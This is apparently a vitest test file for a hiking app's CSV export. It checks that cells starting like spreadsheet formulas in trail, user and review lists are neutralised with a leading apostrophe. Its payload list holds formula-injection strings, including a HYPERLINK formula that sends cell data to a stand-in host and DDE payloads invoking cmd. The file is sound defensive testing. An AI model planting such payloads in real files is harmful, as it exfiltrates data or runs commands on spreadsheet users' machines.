/**
 * A file exported from a list never runs anything when a spreadsheet opens it: every cell of
 * every exported column that starts like a formula (=, +, -, @, tab or CR, after any leading
 * whitespace, line breaks included) is written with a leading apostrophe, and nothing else in
 * it changes. Each list that exports (trails, users, reviews) is tested column by column, with
 * rows whose texts are hostile in every field the server could send.
 */
import { describe, expect, it } from 'vitest';
import type { Review } from '@/api/reviews/schemas';
import type { TrailListItem } from '@/api/trails/schemas';
import type { User } from '@/api/users/schemas';
import { reviewCsvColumns } from '@/features/reviews/review-export';
import { trailCsvColumns } from '@/features/trails/trail-export';
import { userCsvColumns } from '@/features/users/user-export';
import { translator } from '@/i18n/translator';
import { csvText, type CsvColumn } from '@/lib/csv-export';
import { db, toReview, toTrailListItem, toUser } from '../../mocks/db';
import { LANGUAGES, showLanguage } from '../text';
import { csvRows } from './helpers';

/** Texts a spreadsheet would run, as a name, a handle, an address or a review may hold them. */
const PAYLOADS = [
  '=HYPERLINK("https://evil.test/?"&A1,"Open")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\n=1+1',
  '\r\n@SUM(1)',
  '\u200f=1+1',
];

/** What the test counts as dangerous, written apart from the panel's own pattern. */
const dangerous = (cell: string) => {
  const start = cell.replace(/^[ \n\u00a0\u200e\u200f\u061c]+/, '');
  return start !== '' && '=+-@\t\r'.includes(start[0]!);
};

interface ExportedList<T> {
  list: string;
  columns: () => CsvColumn<T>[];
  /** A row of the list with `text` in every text the server sends (and numbers below zero). */
  hostile: (text: string) => T;
  /** The columns that show user-written text: each must carry the payload into the file. */
  userText: (t: ReturnType<typeof translator>['t']) => string[];
}

const trails: ExportedList<TrailListItem> = {
  list: 'trails',
  columns: () => trailCsvColumns(translator()),
  hostile: (text) => {
    const trail = toTrailListItem(db, db.trails.values().next().value!);
    return { ...trail, name: text, elevationGain: -120, distance: -3, rating: -1, time: text };
  },
  userText: (t) => [t('common.name')],
};

const users: ExportedList<User> = {
  list: 'users',
  columns: () => userCsvColumns(translator()),
  hostile: (text) => {
    const user = toUser(db.users.values().next().value!);
    return {
      ...user,
      name: text,
      username: text,
      email: text,
      phoneNumber: text,
      firstName: text,
      lastName: text,
      emergencyContactName: text,
      emergencyContactNumber: text,
      hikeCount: -1,
      savedTrails: -1,
    };
  },
  userText: (t) => [t('common.name'), t('users.fieldUsername'), t('users.fieldEmail'), t('users.fieldPhone')],
};

const reviews: ExportedList<Review> = {
  list: 'reviews',
  columns: () => reviewCsvColumns(translator()),
  hostile: (text) => {
    const review = toReview(db, db.reviews.values().next().value!);
    return { ...review, text, rating: -1, user: { ...review.user, name: text }, trail: { ...review.trail, name: text } };
  },
  userText: (t) => [t('reviews.colTrail'), t('reviews.colUser'), t('reviews.colText')],
};

/** The cell a column writes for `row`, read back from the file. */
async function exported<T>(column: CsvColumn<T>, row: T): Promise<string> {
  // A second column, so that an empty cell is still a line of the file.
  const rows = csvRows(await csvText([column, { header: 'end', text: () => 'end' }], [row]));
  expect(rows).toHaveLength(2);
  return rows[1]![0]!;
}

function describeList<T>(list: ExportedList<T>) {
  describe.each(LANGUAGES)(`Export CSV of ${list.list}: formula cells (%s, %s)`, (language) => {
    showLanguage(language);
    const headers = list.columns().map((c) => c.header);

    it.each(headers)('the column %j writes a cell that starts like a formula with a leading apostrophe', async (header) => {
      showLanguage(language);
      const column = list.columns().find((c) => c.header === header)!;
      const carriesText = list.userText(translator().t).includes(header);
      for (const payload of PAYLOADS) {
        const row = list.hostile(payload);
        const raw = column.text(row);
        if (carriesText) expect(dangerous(raw), `${header} with ${JSON.stringify(payload)}`).toBe(true);
        const cell = await exported(column, row);
        expect(cell, `${header} with ${JSON.stringify(payload)}`).toBe(dangerous(raw) ? `'${raw}` : raw);
      }
    });

    it('every column that shows user-written text is among those exported', () => {
      showLanguage(language);
      expect(headers).toEqual(expect.arrayContaining(list.userText(translator().t)));
    });
  });
}

describeList(trails);
describeList(users);
describeList(reviews);

describe('cells that do not start like a formula', () => {
  it.each(['Wadi - Rum', 'a=b', ' Wadi', 'Wadi\n=1', 'مسار +1', '1-2'])('%j is written as it is', async (text) => {
    const column: CsvColumn<string> = { header: 'Name', text: (s) => s };
    expect(await exported(column, text)).toBe(text);
  });
});
